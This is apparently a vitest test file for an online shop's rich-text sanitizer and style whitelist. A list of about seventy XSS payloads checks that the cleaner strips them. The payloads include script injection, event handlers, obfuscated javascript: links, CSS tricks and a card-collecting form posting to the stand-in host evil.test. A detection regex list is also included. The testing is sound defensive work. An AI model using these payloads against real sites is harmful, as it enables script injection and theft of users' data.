import { expect, test } from 'vitest';

import { OPENS_NEW_TAB_NOTE_HTML, OPENS_NEW_TAB_LABEL } from '#app/lib/external-links.ts';

import { sanitizeStyleAttribute } from './clean-style.ts';
import { sanitizeStoredRichText, renderRichText, buildRichTextStylesheet } from './rich-text.server.ts';

const SHOP = 'https://shop.test';

/**
 * Each of these runs a script, loads an external URL, or breaks out of the text's place in a page when shown
 * unsanitized.
 */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.test/pixel.gif">',
  '<img src="/media/../admin">',
  '<img/src=/media/a.png/onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="/\\evil.test">x</a>',
  '<a href="/\t/evil.test">x</a>',
  '<a href="ftp://evil.test">x</a>',
  '<a href="http://">x</a>',
  '<a href="https://ok.test" target="_self" rel="opener" onclick="alert(1)">x</a>',
  '<p onclick="alert(1)" id="cart" class="fixed" name="x" data-x="1">x</p>',
  '<p style="position:fixed;inset:0;z-index:9">x</p>',
  '<p style="background:url(https://evil.test/a)">x</p>',
  '<p style="background-image:url(javascript:alert(1))">x</p>',
  '<p style="color:expression(alert(1))">x</p>',
  '<p style="color:red;}body{display:none">x</p>',
  '<p style="width:calc(100vw * 9)">x</p>',
  '<p style="--x:url(a);color:var(--x)">x</p>',
  '<p style="-moz-binding:url(x)">x</p>',
  '<p style="margin:-9999px">x</p>',
  '<p style="color:red\\;position:fixed">x</p>',
  '<p style="color:/**/red;position/**/:fixed">x</p>',
  '<p style=\'font-family:"</style><script>alert(1)</script>"\'>x</p>',
  '<style>@import "//evil.test/x.css"</style>',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<base href="//evil.test">',
  '<form action="//evil.test"><input name=card><button>Pay</button></form>',
  '<textarea><script>alert(1)</script></textarea>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<title><script>alert(1)</script></title>',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<<script>alert(1)//<</script>',
  '<p<script>alert(1)</script>',
  '</p><script>alert(1)</script><p>',
  '<b <script>alert(1)</script>0',
  '<a href="https://ok.test/"><img src=x onerror=alert(1)></a>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
  '<body onload=alert(1)>',
  '<isindex action=javascript:alert(1)>',
];

const FORBIDDEN = [
  /<\/?(?:script|style|iframe|object|embed|svg|math|form|input|button|link|meta|base|template|noscript|textarea|xmp|plaintext|title|video|source|details|body)\b/i,
  /<[^>]*\son\w+\s*=/i,
  /<[^>]*\s(?:id|name|data-\w+|background|srcset|srcdoc|action)=/i,
  /<[^>]*(?:href|src)="(?!https?:\/\/ok\.test|\/media\/a\.png|https:\/\/shop\.test\/)/i,
  /evil\.test/,
  /position|url\(|expression|calc|var\(|binding|z-index|inset|-9999/,
];

test('[DETAIL-15] no payload survives the cleaning of stored text or its rendering', () => {
  const survivors = PAYLOADS.flatMap((payload) => {
    const rendered = renderRichText(payload, SHOP);
    return [sanitizeStoredRichText(payload), rendered.html, ...rendered.rules];
  }).filter((shown) => FORBIDDEN.some((pattern) => pattern.test(shown)));
  expect(survivors).toEqual([]);
});

test('[DETAIL-15] rendered text never carries a style attribute, and only classes the renderer made', () => {
  for (const payload of PAYLOADS) {
    const { html } = renderRichText(payload, SHOP);
    expect(html).not.toMatch(/\sstyle=/);
    expect(
      html.replaceAll(OPENS_NEW_TAB_NOTE_HTML, '').replaceAll(/class="rt-[\da-f]{10}"/g, ''),
    ).not.toMatch(/\sclass=/);
  }
});

test('[DETAIL-15] http and https links open in a new tab without opener access; paths lead into this shop', () => {
  expect(renderRichText('<a href="https://a.test/b?c=1&amp;d=2">x</a>', SHOP).html).toBe(
    '<a href="https://a.test/b?c=1&amp;d=2" target="_blank" rel="noopener noreferrer">x' +
      OPENS_NEW_TAB_NOTE_HTML +
      '</a>',
  );
  expect(renderRichText('<a href="/services?category=Fix">x</a>', SHOP).html).toBe(
    '<a href="https://shop.test/services?category=Fix" target="_blank" rel="noopener noreferrer">x' +
      OPENS_NEW_TAB_NOTE_HTML +
      '</a>',
  );
  expect(renderRichText('<a href="mailto:a@b.test">x</a>', SHOP).html).toBe('<a>x</a>');
});

test('each link says once, to screen readers only, that it opens in a new tab', () => {
  const shown = (html: string) => renderRichText(html, SHOP).html;
  const notes = (html: string) => shown(html).split(OPENS_NEW_TAB_LABEL).length - 1;
  expect(shown('<p>See <a href="https://a.test/"><em>all</em> of it</a>, <a>x</a>.</p>')).toBe(
    `<p>See <a href="https://a.test/" target="_blank" rel="noopener noreferrer"><em>all</em> of it${OPENS_NEW_TAB_NOTE_HTML}</a>, <a>x</a>.</p>`,
  );
  expect(notes('<a href="/one" title="1 > 0">1</a> <a href="/two">2</a> <abbr>a</abbr>')).toBe(2);
  expect(notes('<a>outer <a href="/in">inner</a></a>')).toBe(1);
  expect(notes('<p>&lt;a target="_blank"&gt;x&lt;/a&gt;</p>')).toBe(0);
  // Stored text never contains the note, so saving text copied from a page adds no second one.
  expect(sanitizeStoredRichText(shown('<a href="https://a.test/">x</a>'))).not.toContain('sr-only');
});

test('cleaning what is clean changes nothing, so text can be saved again and again', () => {
  const html =
    '<h2 style="color:#c22e16">Title</h2><ul><li>One &amp; two</li></ul><p><a href="/services" title="All">x</a></p><img src="/media/a.png" alt="A" width="10" height="10" />';
  expect(sanitizeStoredRichText(html)).toBe(html);
  for (const payload of PAYLOADS)
    expect(sanitizeStoredRichText(sanitizeStoredRichText(payload))).toBe(sanitizeStoredRichText(payload));
});

test('[DETAIL-18] whitelisted style properties are kept', () => {
  const kept = [
    'color:red',
    'color:#c22e16',
    'background-color:rgba(1, 2, 3, 0.5)',
    'font-family:"Public Sans", Arial, sans-serif',
    'font-size:18px',
    'font-size:1.25em',
    'font-weight:700',
    'font-style:italic',
    'line-height:1.5',
    'letter-spacing:-0.05em',
    'text-align:center',
    'text-decoration:underline',
    'margin:0 auto',
    'margin-top:12px',
    'padding:4px 8px 4px 8px',
    'border:1px solid rgb(1, 2, 3)',
    'border-left-color:#ccc',
    'border-radius:2px',
    'width:100%',
    'max-width:600px',
    'display:inline-block',
    'gap:8px',
    'float:left',
    'opacity:0.5',
  ];
  for (const declaration of kept) expect(sanitizeStyleAttribute(declaration)).toBe(declaration);
});

test('[DETAIL-18] any other property, and any value outside its bounds, is dropped alone', () => {
  const dropped = [
    'position:fixed',
    'z-index:1',
    'top:0',
    'transform:scale(9)',
    'background:red',
    'filter:blur(2px)',
    'content:"x"',
    'animation:x 1s',
    'cursor:pointer',
    'pointer-events:none',
    'clip-path:none',
    'behavior:x',
    '--a:b',
    'font-size:500px',
    'font-size:0',
    'opacity:0',
    'opacity:0.01',
    'margin:-4px',
    'margin:1px 1px 1px 1px 1px',
    'width:2000px',
    'padding:300px',
    'border:1px solid red blue green',
    'color:notacolour',
    `font-family:${'a'.repeat(101)}`,
  ];
  expect(
    dropped.filter((one) => sanitizeStyleAttribute(`text-align:left;${one}`) !== 'text-align:left'),
  ).toEqual([]);
  expect(sanitizeStyleAttribute('COLOR: Red !important')).toBe('color:red');
  expect(sanitizeStyleAttribute('color:red;'.repeat(30)).split(';')).toHaveLength(20);
});

test('[DETAIL-18] kept styles reach the page as classes of a stylesheet named by its content', () => {
  const { html, rules } = renderRichText('<p style="color:red">a</p><p style="color:red">b</p>', SHOP);
  expect(rules).toHaveLength(1);
  const name = /class="(rt-[\da-f]+)"/.exec(html)?.[1];
  expect(rules[0]).toBe(`.${name}{color:red}`);
  const sheet = buildRichTextStylesheet(rules);
  expect(sheet?.name).toMatch(/^[\da-f]{24}\.css$/);
  expect(buildRichTextStylesheet([...rules, ...rules])).toEqual(sheet);
  expect(buildRichTextStylesheet([])).toBeNull();
});

test('hostile repetition is cleaned in linear time', () => {
  const started = performance.now();
  sanitizeStoredRichText('<a '.repeat(30_000));
  sanitizeStoredRichText(`<p style="${'a:'.repeat(40_000)}">`);
  sanitizeStyleAttribute('border:' + '1px '.repeat(20_000));
  expect(performance.now() - started).toBeLessThan(2_000);
});

test('a callout is kept as a note, and no other role', () => {
  expect(sanitizeStoredRichText('<div role="note"><p>Mind this.</p></div>')).toBe(
    '<div role="note"><p>Mind this.</p></div>',
  );
  expect(sanitizeStoredRichText('<div role="alert">x</div><p role="note">y</p>')).toBe(
    '<div>x</div><p>y</p>',
  );
});
